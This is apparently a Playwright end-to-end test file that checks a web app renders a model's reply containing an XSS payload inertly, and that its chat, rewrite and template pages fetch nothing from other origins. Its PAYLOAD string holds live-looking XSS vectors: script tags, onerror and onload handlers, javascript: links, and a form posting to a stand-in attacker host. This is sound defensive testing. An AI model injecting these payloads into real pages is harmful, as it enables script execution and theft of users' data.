"""Model output is never trusted as HTML, and no page loads anything from another origin.

The emulator answers with an XSS payload (`[[emulator:reply=<base64>]]`); the browser
must show it inert while it streams, after the sanitized rendering replaces it, and when
the conversation is rendered again by the server."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from typing import Any
from urllib.parse import urlsplit

import pytest

from tests.support.live import sign_in

pytestmark = [pytest.mark.e2e, pytest.mark.worker, pytest.mark.django_db(transaction=True)]

PAYLOAD = """Here is the report.

<script>window.__xss = 'script'; alert('script')</script>
<img src="https://evil.example/pixel.png" onerror="window.__xss = 'img'; alert('img')">
<a href="javascript:alert('link')" onclick="alert('click')">click me</a>
[markdown link](javascript:alert('md'))
![remote image](https://evil.example/tracker.png)
<svg onload="alert('svg')"><circle r="4"/></svg>
<iframe src="https://evil.example/frame"></iframe>
<div style="background:url(https://evil.example/bg.png)">styled</div>
<form action="https://evil.example/steal"><button>Go</button></form>

**bold** and a [safe link](https://example.com/docs)."""

# Evaluated in the page: everything that would make the payload live or fetch remotely.
INSPECT = """(base) => {
  const all = [...document.querySelectorAll('*')];
  return {
    handlers: all.flatMap(el => [...el.attributes].filter(a => a.name.startsWith('on'))
                                   .map(a => el.tagName + ' ' + a.name)),
    remoteImages: [...document.images].map(i => i.getAttribute('src'))
                   .filter(src => src && !src.startsWith(base) && !src.startsWith('data:')),
    jsLinks: [...document.querySelectorAll('a[href]')].map(a => a.getAttribute('href'))
              .filter(h => h.trim().toLowerCase().startsWith('javascript:')),
    scripts: [...document.scripts].filter(s => s.type !== 'application/json')
              .map(s => s.getAttribute('src') || 'inline'),
    frames: document.querySelectorAll('iframe, object, embed, svg').length,
    foreignForms: [...document.forms].map(f => f.action)
                   .filter(action => new URL(action).origin !== location.origin),
    styled: document.querySelectorAll('.answer [style]').length,
    xss: window.__xss || null,
  };
}"""


@pytest.fixture
def watched(page: Any, live_site: str) -> Iterator[dict[str, list[str]]]:
    """Records dialogs and every request the page makes that leaves the site."""
    seen: dict[str, list[str]] = {"dialogs": [], "foreign": [], "requests": []}
    site = urlsplit(live_site).netloc

    def on_request(request: Any) -> None:
        seen["requests"].append(request.url)
        parts = urlsplit(request.url)
        if parts.scheme in ("data", "blob"):
            return
        if parts.netloc != site:
            seen["foreign"].append(request.url)

    def on_dialog(dialog: Any) -> None:
        seen["dialogs"].append(dialog.message)
        dialog.dismiss()

    page.on("request", on_request)
    page.on("dialog", on_dialog)
    yield seen


def assert_inert(page: Any, live_site: str, seen: dict[str, list[str]]) -> None:
    found = page.evaluate(INSPECT, live_site)
    assert found["handlers"] == []
    assert found["remoteImages"] == []
    assert found["jsLinks"] == []
    assert all(src.startswith("/static/") for src in found["scripts"]), found["scripts"]
    assert found["frames"] == 0
    assert found["foreignForms"] == []
    assert found["styled"] == 0
    assert found["xss"] is None
    assert seen["dialogs"] == []
    assert seen["foreign"] == [], seen["foreign"]


def reply_marker(text: str) -> str:
    return f"[[emulator:reply={base64.b64encode(text.encode()).decode()}]]"


def test_xss_answer_renders_inert_in_chat(
    live_site: str, page: Any, alice: Any, watched: dict[str, list[str]]
) -> None:
    """Script tags, onerror, javascript: links and remote images in an answer do nothing:
    not while streaming, not after the sanitized rendering, not after a reload."""
    from playwright.sync_api import expect

    sign_in(page, live_site, alice)
    page.goto(f"{live_site}/chat/")
    page.get_by_label("Message", exact=True).fill(f"{reply_marker(PAYLOAD)} show me the report")
    page.get_by_role("button", name="Send").click()
    answer = page.locator("#transcript .answer").last
    expect(answer).to_contain_text("safe link", timeout=20_000)
    expect(answer.locator("strong")).to_have_text("bold")  # Markdown still renders
    expect(answer.locator('a[href="https://example.com/docs"]')).to_have_count(1)
    page.wait_for_timeout(500)  # give any injected handler or image a chance to fire
    assert_inert(page, live_site, watched)

    page.reload()
    expect(page.locator("#transcript .answer").last).to_contain_text("safe link")
    page.wait_for_timeout(300)
    assert_inert(page, live_site, watched)
    assert any("/runs/" in url and url.endswith("/events") for url in watched["requests"])


def test_xss_answer_renders_inert_in_rewrite(
    live_site: str, page: Any, alice: Any, watched: dict[str, list[str]]
) -> None:
    """A rewrite result is shown as text: the payload appears literally, nothing runs,
    including in the word diff."""
    from playwright.sync_api import expect

    sign_in(page, live_site, alice)
    page.goto(f"{live_site}/rewrite/")
    page.get_by_label("Text to rewrite").fill(f"{reply_marker(PAYLOAD)} my notes")
    page.get_by_role("button", name="Shorter").click()  # a preset: one click
    result = page.locator("#result-text")
    expect(result).to_contain_text("<script>window.__xss", timeout=20_000)
    page.get_by_role("button", name="Show changes").click()
    expect(page.locator("#result-diff")).to_contain_text("onerror")
    page.wait_for_timeout(500)
    assert_inert(page, live_site, watched)
    page.reload()
    expect(page.locator("#result-text")).to_contain_text("<img src=")
    assert_inert(page, live_site, watched)


def test_pages_load_nothing_from_another_origin(
    live_site: str, page: Any, alice: Any, watched: dict[str, list[str]]
) -> None:
    """Chat, Rewrite and the template page fetch only from the site itself."""
    sign_in(page, live_site, alice)
    for path in ("/chat/", "/rewrite/", "/templates/"):
        page.goto(f"{live_site}{path}")
        page.wait_for_load_state("networkidle")
    assert watched["foreign"] == []
    assert any(url.endswith("/static/js/chat.js") for url in watched["requests"])
